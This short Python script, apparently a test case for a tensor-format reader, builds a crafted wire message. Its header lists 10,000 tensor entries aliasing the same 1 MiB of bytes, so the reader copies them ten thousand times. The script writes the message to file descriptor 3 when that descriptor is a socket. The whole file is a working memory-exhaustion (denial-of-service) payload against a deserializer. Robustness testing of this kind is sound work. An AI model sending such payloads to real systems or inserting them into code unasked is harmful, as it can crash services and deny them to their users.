"""Let ten thousand tensors name the same bytes, so that the reader copies them ten thousand times.

gains without defence: nothing in one process
layer: wire
"""

import json
import os
import socket
import struct


def forged(structure, payload=b""):
    return struct.pack("<IQ", len(structure), len(payload)) + structure + payload


def write(data):
    try:
        if os.fstat(3).st_mode & 0o170000 == 0o140000:  # only where descriptor 3 is a socket: the examiner's
            os.write(3, data)
    except OSError:
        pass


tensor = {"x": ["uint8", [1 << 20], [1], 0, 1 << 20]}
write(forged(json.dumps({"l": [tensor] * 10_000}).encode(), bytes(1 << 20)))
